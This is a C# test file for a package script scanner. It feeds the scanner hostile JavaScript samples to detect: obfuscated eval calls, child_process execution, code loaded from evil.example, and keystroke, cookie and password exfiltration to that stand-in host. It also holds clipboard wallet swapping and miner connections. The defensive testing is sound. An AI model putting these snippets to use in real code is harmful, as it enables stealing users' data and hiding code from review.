using Berth.Packaging.Scanning;

namespace Berth.Packaging.Tests.Scanning.Scripts;

public sealed class ScriptScannerTests
{
    // R58: one regular expression let all of these through.
    [Theory]
    [InlineData("require('f' + 's')", "dist/index.js", "scan.scripts.node_module")]
    [InlineData("require('f' + 's')", "dist/index.js", "scan.scripts.hidden_name")]
    [InlineData("import('fs').then(m => m)", "dist/index.js", "scan.scripts.node_module")]
    [InlineData("import fs from 'fs'; fs.readFileSync('/etc/passwd')", "dist/index.mjs", "scan.scripts.node_module")]
    [InlineData("export * from 'node:child_process'", "dist/index.mjs", "scan.scripts.node_module")]
    [InlineData("const r = require; r('child_process').exec('id')", "dist/index.cjs", "scan.scripts.node_module")]
    [InlineData("eval(x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("(0, eval)(x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("const e = eval; e(x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("const e = eval; e(x)", "dist/index.js", "scan.scripts.eval_alias")]
    [InlineData("globalThis['ev' + 'al'](x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("globalThis['ev' + 'al'](x)", "dist/index.js", "scan.scripts.hidden_name")]
    [InlineData("const w = window; w[['e','v','a','l'].join('')](x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("window[String.fromCharCode(101,118,97,108)](x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("self[atob('ZXZhbA==')](x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("self['lave'.split('').reverse().join('')](x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("const { eval: run } = window; run(x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("Reflect.get(window, 'eval')(x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("eval.call(null, x)", "dist/index.js", "scan.scripts.eval")]
    [InlineData("new Function('a', b)", "dist/index.js", "scan.scripts.function_constructor")]
    [InlineData("(function () {}).constructor(x)()", "dist/index.js", "scan.scripts.function_constructor")]
    [InlineData("[].constructor.constructor(x)()", "dist/index.js", "scan.scripts.function_constructor")]
    [InlineData("setTimeout('run(' + x + ')', 1)", "dist/index.js", "scan.scripts.timer_text")]
    [InlineData("require(name)", "dist/index.js", "scan.scripts.computed_require")]
    [InlineData("import(name)", "dist/index.js", "scan.scripts.computed_import")]
    [InlineData("import('https://evil.example/x.js')", "dist/index.js", "scan.scripts.remote_code")]
    [InlineData("import(`https://${host}/x.js`)", "dist/index.js", "scan.scripts.remote_code")]
    [InlineData("import x from 'https://evil.example/x.js'", "dist/index.mjs", "scan.scripts.remote_code")]
    [InlineData("importScripts('//evil.example/x.js')", "dist/w.js", "scan.scripts.remote_code")]
    [InlineData("var s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s)", "dist/index.js", "scan.scripts.remote_code")]
    [InlineData("document.write(x)", "dist/index.js", "scan.scripts.document_write")]
    [InlineData("navigator.serviceWorker.register('/sw.js')", "dist/index.js", "scan.scripts.service_worker")]
    [InlineData("fetch('https://evil.example/')", "dist/index.js", "scan.scripts.remote_request")]
    [InlineData("navigator.sendBeacon('https://evil.example/' + x)", "dist/index.js", "scan.scripts.remote_request")]
    [InlineData("new WebSocket('wss://evil.example')", "dist/index.js", "scan.scripts.remote_request")]
    [InlineData("localStorage.getItem('x')", "dist/index.js", "scan.scripts.storage")]
    [InlineData("document.cookie", "dist/index.js", "scan.scripts.cookies")]
    [InlineData("navigator.geolocation.getCurrentPosition(f)", "dist/index.js", "scan.scripts.device")]
    [InlineData("XMLHttpRequest.prototype.open = function () {}", "dist/index.js", "scan.scripts.network_hook")]
    [InlineData("Array.prototype.map = f", "dist/index.js", "scan.scripts.prototype_change")]
    [InlineData("top.location = 'x'", "dist/index.js", "scan.scripts.frame_escape")]
    [InlineData("x.innerHTML = '<img src=x onerror=eval(y)>'", "dist/index.js", "scan.scripts.eval")]
    [InlineData("x.href = 'java' + 'script:eval(y)'", "dist/index.js", "scan.scripts.javascript_url")]
    [InlineData("connect('stratum+tcp://pool.example:3333')", "dist/index.js", "scan.scripts.miner")]
    [InlineData("load('coin' + 'hive')", "dist/index.js", "scan.scripts.miner")]
    [InlineData("fetch('https://discord.com/api/webhooks/1/x')", "dist/index.js", "scan.scripts.exfiltration_address")]
    [InlineData("ethereum.request({ method: 'eth_sendTransaction' })", "dist/index.js", "scan.scripts.wallet")]
    [InlineData("let x = 1; let y = (", "dist/index.js", "scan.scripts.unparseable")]
    [InlineData("let y = ( eval(x)", "dist/index.js", "scan.scripts.indicator")]
    public async Task Code_that_does_what_it_should_not_is_found_R58(string code, string path, string expected)
    {
        var findings = await Scans.OfScriptAsync(code, path);

        var finding = findings.Where(finding => finding.Code == expected).ShouldHaveSingleItemOrMore();
        finding.File.ShouldBe(path);
        finding.Line.ShouldBe(1);
        finding.Remedy.ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData("function f(eval1, require) { return require('fs'); } export default f")]
    [InlineData("const o = { eval: 1, Function: 2 }; o.eval(1); console.log(o.Function)")]
    [InlineData("setTimeout(() => 1, 5); setInterval(tick, 5)")]
    [InlineData("const x = import.meta.url; await import('./chunk.js')")]
    [InlineData("if (typeof eval === 'function' && f instanceof Function) { Function.prototype.call(f) }")]
    [InlineData("(e, t, n) => { const r = n(1); r.eval && r.exec('x'); e.exports = t }")]
    [InlineData("const s = 'привет мир'; const µs = 3, Δx = 4; const emoji = '👩‍👩‍👧 ❤️'")]
    public async Task Ordinary_code_is_clean(string code) => (await Scans.OfScriptAsync(code)).ShouldBeEmpty();

    [Fact]
    public async Task What_a_module_runs_behind_an_HTML_comment_is_found()
    {
        // A script takes <!-- for a comment; in a module it is three operators, and the rest of the line runs.
        var findings = await Scans.OfScriptAsync("let x = 1, y = 2;\nx<!--y; eval(z)");

        findings.ShouldContain(finding => finding.Code == "scan.scripts.eval" && finding.Line == 2);
    }

    [Fact]
    public async Task Positions_are_those_of_the_file()
    {
        var finding = (await Scans.OfScriptAsync("\n\n   eval(x)")).ShouldHaveSingleItem();

        (finding.Line, finding.Column).ShouldBe((3, 4));
    }

    [Fact]
    public async Task Texts_that_are_run_are_looked_at_as_code_of_their_own()
    {
        var findings = await Scans.OfScriptAsync("eval(\"require('child_' + 'process')\")");

        findings.ShouldContain(finding => finding.Code == "scan.scripts.node_module");
        findings.ShouldContain(finding => finding.Code == "scan.scripts.eval" && finding.Severity == Severity.Medium);
    }

    [Fact]
    public async Task Code_in_code_has_an_end()
    {
        var code = "x";
        for (var i = 0; i < 8; i++)
            code = $"eval({System.Text.Json.JsonSerializer.Serialize(code)})";

        (await Scans.OfScriptAsync(code)).ShouldContain(finding => finding.Code == "scan.scripts.too_deep");
    }

    [Fact]
    public async Task A_development_build_of_webpack_is_recognised_and_its_modules_are_looked_at()
    {
        const string Module = """eval("var x = require('child_process');\n//# sourceURL=webpack://notes/./src/index.js?");""";

        var findings = await Scans.OfScriptAsync($"var __webpack_modules__ = {{ 1: (module, exports) => {{ {Module} }} }};");

        findings.ShouldContain(finding => finding.Code == "scan.scripts.eval_devtool" && finding.Severity == Severity.Low);
        findings.ShouldContain(finding => finding.Code == "scan.scripts.node_module");
        findings.ShouldNotContain(finding => finding.Code == "scan.scripts.eval");
    }

    [Theory]
    [InlineData("document.addEventListener('keydown', e => fetch('https://evil.example/?k=' + e.key))")]
    [InlineData("new Image().src = 'https://evil.example/?c=' + document.cookie")]
    [InlineData("const p = document.querySelector('input[type=password]'); navigator.sendBeacon('https://evil.example', p.value)")]
    [InlineData("navigator.clipboard.writeText('1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2')")]
    public async Task Patterns_of_stealing_are_critical(string code) =>
        (await Scans.OfScriptAsync(code)).ShouldContain(finding => finding.Code == "scan.scripts.stealer" && finding.Severity == Severity.Critical);

    [Fact]
    public async Task Requests_elsewhere_are_worth_a_note_when_they_are_declared()
    {
        var report = await Scans.RunAsync(null, ["network:http-client"], Packages.File("dist/index.js", "fetch('https://api.example/')"));

        report.Findings.ShouldHaveSingleItem().Severity.ShouldBe(Severity.Info);
    }

    [Theory]
    [InlineData("var a = 1; /* \u202E } */", "scan.scripts.bidi_characters", Severity.High)]
    [InlineData("var a\u3164 = 1;", "scan.scripts.invisible_characters", Severity.High)]
    [InlineData("var s = 'a\u200Bb';", "scan.scripts.invisible_characters", Severity.Low)]
    [InlineData("var s = '\uFE00\uFE01\uFE02\uFE03\uFE04\uFE05\uFE06\uFE07\uFE08\uFE09';", "scan.scripts.invisible_characters", Severity.High)]
    [InlineData("var p\u0430ssword = 1;", "scan.scripts.homoglyph_identifier", Severity.High)]
    public async Task Characters_that_deceive_are_found(string code, string expected, Severity severity) =>
        (await Scans.OfScriptAsync(code)).ShouldContain(finding => finding.Code == expected && finding.Severity == severity);

    [Fact]
    public async Task Obfuscated_code_is_found()
    {
        var names = string.Concat(Enumerable.Range(0, 30).Select(i => $"var _0x{i + 4096:x} = {i};"));
        var escapes = "var s = '" + string.Concat(Enumerable.Repeat("\\x61", 300)) + "'";
        var symbols = string.Concat(Enumerable.Repeat("[][(![]+[])[+[]]];", 100));

        (await Scans.OfScriptAsync(names)).ShouldContain(finding => finding.Code == "scan.scripts.obfuscated");
        (await Scans.OfScriptAsync(escapes)).ShouldContain(finding => finding.Code == "scan.scripts.obfuscated");
        (await Scans.OfScriptAsync(symbols)).ShouldContain(finding => finding.Code == "scan.scripts.obfuscated");
    }

    [Theory]
    [InlineData('(')]
    [InlineData('[')]
    [InlineData('!')]
    [InlineData('{')]
    public async Task Endless_nesting_is_a_finding_and_no_crash(char open) =>
        (await Scans.OfScriptAsync(new string(open, 200_000))).ShouldContain(finding => finding.Code == "scan.scripts.unparseable");

    [Fact]
    public async Task A_long_sum_is_read_to_its_end()
    {
        var sum = string.Join('+', Enumerable.Repeat("'a'", 5000));

        (await Scans.OfScriptAsync($"var x = {sum}; eval(y)")).ShouldContain(finding => finding.Code == "scan.scripts.eval");
    }

    [Fact]
    public async Task A_script_beyond_the_bounds_is_a_finding_and_not_clean()
    {
        var small = ScanRules.BuiltIn with { Limits = ScanLimits.Default with { MaxScriptBytes = 1000 } };
        var few = ScanRules.BuiltIn with { Limits = ScanLimits.Default with { MaxScriptSteps = 100 } };
        var code = string.Concat(Enumerable.Repeat("f();\n", 300));

        (await Scans.RunAsync(small, [], Packages.File("dist/index.js", code))).Findings.ShouldContain(finding => finding.Code == "scan.scripts.too_large");
        (await Scans.RunAsync(few, [], Packages.File("dist/index.js", code))).Findings.ShouldContain(finding => finding.Code == "scan.scripts.too_large");
    }
}
